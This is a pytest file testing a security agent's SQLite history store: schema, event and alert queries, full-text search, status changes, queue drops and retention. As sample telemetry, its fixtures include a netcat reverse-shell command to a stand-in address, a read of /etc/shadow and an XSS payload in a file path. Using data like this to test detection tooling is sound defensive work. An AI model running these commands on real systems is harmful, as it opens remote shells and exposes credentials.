"""HistoryStore on real SQLite files: schema, writes, queries, paging, status changes, full queue, retention."""

from __future__ import annotations

import sqlite3
import time
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from history_objs import make_alert, make_event

from sentinel_edge.errors import OutputError
from sentinel_edge.history import (
    SCHEMA_VERSION,
    STATUS_ACKNOWLEDGED,
    STATUS_NEW,
    STATUS_RESOLVED,
    AlertChange,
    HistoryStore,
    StoredAlert,
    StoredEvent,
)

NOW = int(time.time() * 1000)


def seqs(rows: Sequence[StoredEvent]) -> list[int]:
    return [int(r.obj["unmapped"]["seq"]) for r in rows]


def uids(rows: Sequence[StoredAlert]) -> list[str]:
    return [r.uid for r in rows]


@pytest.fixture
def store(tmp_path: Path) -> Iterator[HistoryStore]:
    s = HistoryStore(tmp_path / "h.db", retention_days=None, max_bytes=None)
    try:
        yield s
    finally:
        s.close()


def test_schema_is_versioned_wal_and_reopens(tmp_path: Path) -> None:
    path = tmp_path / "h.db"
    with HistoryStore(path, retention_days=None, max_bytes=None) as s:
        assert s.schema_version == SCHEMA_VERSION == 3
        s.add_event(make_event(1, time_ms=NOW))
        assert s.flush()
    conn = sqlite3.connect(path)
    try:
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        assert conn.execute("PRAGMA user_version").fetchone()[0] == 3
        assert conn.execute("PRAGMA auto_vacuum").fetchone()[0] == 2  # incremental
        assert conn.execute("PRAGMA page_size").fetchone()[0] == 8192
        names = {r[0] for r in conn.execute("SELECT name FROM sqlite_master")}
        assert {"events", "alerts", "alert_changes", "events_fts", "alerts_fts", "events_time",
                "events_class_time", "events_pid", "events_exec_id", "events_exe", "events_user",
                "alerts_rule", "alerts_severity", "alerts_status", "event_counts", "events_count_delete",
                "zdicts"} <= names
        conn.execute("PRAGMA user_version=99")
        conn.commit()
    finally:
        conn.close()
    with pytest.raises(OutputError, match=r"h\.db: schema version 99 is newer than this agent's \(3\)"):
        HistoryStore(path, retention_days=None, max_bytes=None)
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA user_version=3")
    conn.commit()
    conn.close()
    with HistoryStore(path, retention_days=None, max_bytes=None) as s:
        (e,) = s.query_events()
        assert e.obj == make_event(1, time_ms=NOW)


def test_events_stored_whole_with_every_indexed_field(store: HistoryStore) -> None:
    ev = make_event(7, time_ms=NOW, class_uid=1001, kind="open", pid=4242, exe="/usr/bin/cat", user="bob",
                    cmd_line="cat /etc/shadow", file_path="/etc/shadow")
    assert store.add_event(ev)
    assert store.flush()
    (got,) = store.query_events()
    assert got.id == 1
    assert got.time == NOW
    assert got.class_uid == 1001
    assert got.kind == "open"
    assert got.pid == 4242
    assert got.exec_id == "exec-4242"
    assert got.exe == "/usr/bin/cat"
    assert got.user == "bob"
    assert got.obj == ev
    st = store.stats()
    assert st["written_events"] == 1
    assert st["written_alerts"] == 0
    assert st["dropped_full_queue"] == 0
    assert st["dropped_disk"] == 0
    assert st["dropped_alerts"] == 0
    assert st["dropped_invalid"] == 0
    assert st["pending_alerts"] == 0
    assert st["queue_depth"] == 0
    assert st["retention_deleted"] == 0
    assert st["healthy"] is True
    assert st["health"] is None
    assert st["last_write_latency_ms"] > 0
    assert st["db_bytes"] >= 4096


def test_event_filters_text_and_paging(store: HistoryStore) -> None:
    for i in range(30):
        store.add_event(make_event(i, time_ms=NOW + i * 1000, class_uid=1007 if i % 2 else 1001,
                                   kind="exec" if i % 2 else "open", pid=100 + i % 3,
                                   exe="/usr/bin/curl" if i % 5 == 0 else "/usr/bin/sleep",
                                   user="alice" if i < 10 else "root",
                                   cmd_line=f"run --token=secret{i}" if i == 17 else "sleep 1",
                                   file_path="/var/www/<img src=x onerror=alert(1)>.php" if i == 4 else None))
    assert store.flush()
    assert seqs(store.query_events(limit=5)) == [29, 28, 27, 26, 25]
    assert seqs(store.query_events(class_uid=1001, limit=3)) == [28, 26, 24]
    assert seqs(store.query_events(kind="exec", limit=2)) == [29, 27]
    assert seqs(store.query_events(pid=101)) == [28, 25, 22, 19, 16, 13, 10, 7, 4, 1]
    assert seqs(store.query_events(exe="/usr/bin/curl")) == [25, 20, 15, 10, 5, 0]
    assert seqs(store.query_events(user="alice", class_uid=1007)) == [9, 7, 5, 3, 1]
    assert seqs(store.query_events(since=NOW + 10_000, until=NOW + 13_000)) == [12, 11, 10]
    assert seqs(store.query_events(text="secret17")) == [17]
    assert seqs(store.query_events(text="token=secret17")) == [17]
    assert seqs(store.query_events(text='x onerror=alert(1)>')) == [4]  # FTS syntax is searched verbatim
    assert seqs(store.query_events(text="www")) == [4]
    assert store.query_events(text="nothing-like-this") == []
    # paging: three pages of 10, no overlap, no gap
    page1 = store.query_events(limit=10)
    page2 = store.query_events(limit=10, before_id=page1[-1].id)
    page3 = store.query_events(limit=10, before_id=page2[-1].id)
    assert seqs(page1 + page2 + page3) == list(range(29, -1, -1))
    assert store.query_events(limit=10, before_id=page3[-1].id) == []


def test_alerts_fields_filters_and_reemit(store: HistoryStore) -> None:
    a1 = make_alert("u-1", time_ms=NOW, rule="se.r.one", title="One", severity_id=2, pid=11,
                    exe="/usr/bin/nc", user="eve", cmd_line="nc -e /bin/sh 10.0.0.1 4444")
    a2 = make_alert("u-2", time_ms=NOW + 1000, rule="se.r.two", title="Two", severity_id=4)
    a3 = make_alert("u-3", time_ms=NOW + 2000, rule="se.r.one", title="One", severity_id=5)
    for a in (a1, a2, a3):
        store.add_alert(a)
    assert store.flush()
    got = store.get_alert("u-1")
    assert got is not None
    assert (got.id, got.uid, got.time, got.rule, got.title, got.severity_id, got.status) == \
        (1, "u-1", NOW, "se.r.one", "One", 2, STATUS_NEW)
    assert (got.pid, got.exec_id, got.exe, got.user) == (11, "exec-11", "/usr/bin/nc", "eve")
    assert got.obj == a1
    assert got.changes == ()
    assert store.get_alert("nope") is None
    assert uids(store.query_alerts()) == ["u-3", "u-2", "u-1"]
    assert uids(store.query_alerts(rule="se.r.one")) == ["u-3", "u-1"]
    assert uids(store.query_alerts(severity=4)) == ["u-2"]
    assert uids(store.query_alerts(min_severity=4)) == ["u-3", "u-2"]
    assert uids(store.query_alerts(since=NOW + 500, until=NOW + 2000)) == ["u-2"]
    assert uids(store.query_alerts(text="10.0.0.1")) == ["u-1"]
    assert uids(store.query_alerts(text="Two")) == ["u-2"]
    assert uids(store.query_alerts(user="eve", pid=11, exe="/usr/bin/nc")) == ["u-1"]
    assert uids(store.query_alerts(limit=1, before_id=3)) == ["u-2"]
    assert store.stats()["written_alerts"] == 3

    # status changes are durable and keep a history
    acked = store.ack("u-1", "bob", "looking at it")
    assert acked.status == STATUS_ACKNOWLEDGED
    assert acked.obj["status_id"] == 2
    assert acked.obj["status"] == "In Progress"
    (c1,) = acked.changes
    assert (c1.who, c1.action, c1.old_status, c1.new_status, c1.comment) == \
        ("bob", "ack", STATUS_NEW, STATUS_ACKNOWLEDGED, "looking at it")
    assert abs(c1.time - time.time() * 1000) < 60_000
    resolved = store.resolve("u-1", "carol", "benign admin")
    assert resolved.status == STATUS_RESOLVED
    assert resolved.obj["status_id"] == 4
    assert resolved.obj["status"] == "Resolved"
    assert [(c.who, c.action, c.old_status, c.new_status, c.comment) for c in resolved.changes] == [
        ("bob", "ack", STATUS_NEW, STATUS_ACKNOWLEDGED, "looking at it"),
        ("carol", "resolve", STATUS_ACKNOWLEDGED, STATUS_RESOLVED, "benign admin")]
    assert all(isinstance(c, AlertChange) for c in resolved.changes)
    assert uids(store.query_alerts(status=STATUS_RESOLVED)) == ["u-1"]
    assert uids(store.query_alerts(status=STATUS_NEW)) == ["u-3", "u-2"]
    with pytest.raises(OutputError, match="no alert 'nope'"):
        store.ack("nope", "bob")

    # the agent re-emits a folded finding with the same uid: updated, status kept, still one row
    again = {**a1, "count": 5, "time": NOW + 5000, "severity_id": 3}
    store.add_alert(again)
    assert store.flush()
    got = store.get_alert("u-1")
    assert got is not None
    assert (got.id, got.time, got.severity_id, got.status) == (1, NOW + 5000, 3, STATUS_RESOLVED)
    assert got.obj == {**again, "status_id": 4, "status": "Resolved"}
    assert len(got.changes) == 2
    assert uids(store.query_alerts(text="10.0.0.1")) == ["u-1"]
    assert len(store.query_alerts()) == 3

    with pytest.raises(ValueError, match=r"finding_info\.uid"):
        store.add_alert({"class_uid": 2004, "time": NOW})


def test_full_queue_drops_events_keeps_alerts(tmp_path: Path) -> None:
    path = tmp_path / "h.db"
    s = HistoryStore(path, retention_days=None, max_bytes=None, queue_size=8)
    blocker = sqlite3.connect(path, isolation_level=None)
    try:
        blocker.execute("BEGIN IMMEDIATE")  # the writer now waits on the lock
        assert s.add_event(make_event(0, time_ms=NOW))
        deadline = time.monotonic() + 5
        while s.stats()["queue_depth"] and time.monotonic() < deadline:
            time.sleep(0.01)
        assert s.stats()["queue_depth"] == 0  # taken by the writer, which is blocked
        accepted = [s.add_event(make_event(i, time_ms=NOW + i)) for i in range(1, 21)]
        assert accepted == [True] * 8 + [False] * 12
        for n in range(3):
            s.add_alert(make_alert(f"q-{n}", time_ms=NOW + n))
        st = s.stats()
        assert st["dropped_full_queue"] == 12
        assert st["pending_alerts"] == 3
        assert st["queue_depth"] == 8
        blocker.execute("ROLLBACK")
        assert s.flush()
        st = s.stats()
        assert st["written_events"] == 9
        assert st["written_alerts"] == 3
        assert st["pending_alerts"] == 0
        assert st["dropped_full_queue"] == 12
        assert [e.obj["unmapped"]["seq"] for e in s.query_events()] == list(range(8, -1, -1))
        assert [a.uid for a in s.query_alerts()] == ["q-2", "q-1", "q-0"]
    finally:
        blocker.close()
        s.close()


def test_retention_by_age_removes_old_rows_only(tmp_path: Path) -> None:
    day = 86_400_000
    with HistoryStore(tmp_path / "h.db", retention_days=None, max_bytes=None) as s:
        for i, age_days in enumerate([5, 3, 1, 0]):
            s.add_event(make_event(i, time_ms=NOW - age_days * day, cmd_line=f"cmd{i}"))
            s.add_alert(make_alert(f"age-{i}", time_ms=NOW - age_days * day))
        assert s.flush()
        s.ack("age-0", "bob")
    with HistoryStore(tmp_path / "h.db", retention_days=2, max_bytes=None, retention_interval=3600) as s:
        assert s.flush()  # the writer runs retention at start, before it answers the flush
        assert s.stats()["retention_deleted"] == 4
        assert [e.obj["unmapped"]["seq"] for e in s.query_events()] == [3, 2]
        assert [a.uid for a in s.query_alerts()] == ["age-3", "age-2"]
        assert s.query_events(text="cmd0") == []
        assert s.run_retention() == 0
        assert s.integrity_check() == "ok"
    conn = sqlite3.connect(tmp_path / "h.db")
    try:
        assert conn.execute("SELECT count(*) FROM alert_changes").fetchone()[0] == 0
        assert conn.execute("SELECT count(*) FROM events_fts").fetchone()[0] == 2
        assert conn.execute("SELECT count(*) FROM alerts_fts").fetchone()[0] == 2
    finally:
        conn.close()


def test_retention_by_size_removes_oldest_first(tmp_path: Path) -> None:
    path = tmp_path / "h.db"
    with HistoryStore(path, retention_days=None, max_bytes=None, retention_interval=3600) as s:
        for i in range(3000):
            s.add_event(make_event(i, time_ms=NOW + i, cmd_line=f"python -c {'x' * 300} {i}"))
        s.add_alert(make_alert("keep", time_ms=NOW - 10))  # older than every event: events go first
        assert s.flush()
        big = s.db_bytes()
        assert big > 1_500_000
    limit = 1_000_000  # well above the fixed cost of the empty schema (~27 b-trees of 8 KiB pages)
    with HistoryStore(path, retention_days=None, max_bytes=limit, retention_interval=3600) as s:
        assert s.flush()  # retention ran at writer start
        left = s.query_events(limit=5000)
        seqs = [e.obj["unmapped"]["seq"] for e in left]
        assert 0 < len(seqs) < 3000
        assert seqs == list(range(2999, 2999 - len(seqs), -1))  # the newest, contiguous: oldest removed first
        assert s.stats()["retention_deleted"] == 3000 - len(seqs)
        assert [a.uid for a in s.query_alerts()] == ["keep"]
        assert s.db_bytes() <= limit + 64 * 1024  # pages given back (incremental vacuum, WAL truncated)
        assert s.db_bytes() < big / 2
        assert s.integrity_check() == "ok"


def test_unserialisable_objects_are_counted_and_the_writer_goes_on(store: HistoryStore) -> None:
    bad_event = make_event(1, time_ms=NOW)
    bad_event["unmapped"]["raw"] = {1, 2}  # a set: not JSON
    bad_alert = make_alert("bad", time_ms=NOW)
    bad_alert["unmapped"] = {"raw": b"bytes"}
    store.add_event(bad_event)
    store.add_alert(bad_alert)
    store.add_event(make_event(2, time_ms=NOW))
    store.add_alert(make_alert("good", time_ms=NOW))
    assert store.flush()
    st = store.stats()
    assert st["dropped_invalid"] == 2
    assert st["written_events"] == 1
    assert st["written_alerts"] == 1
    assert st["pending_alerts"] == 0
    assert seqs(store.query_events()) == [2]
    assert uids(store.query_alerts()) == ["good"]
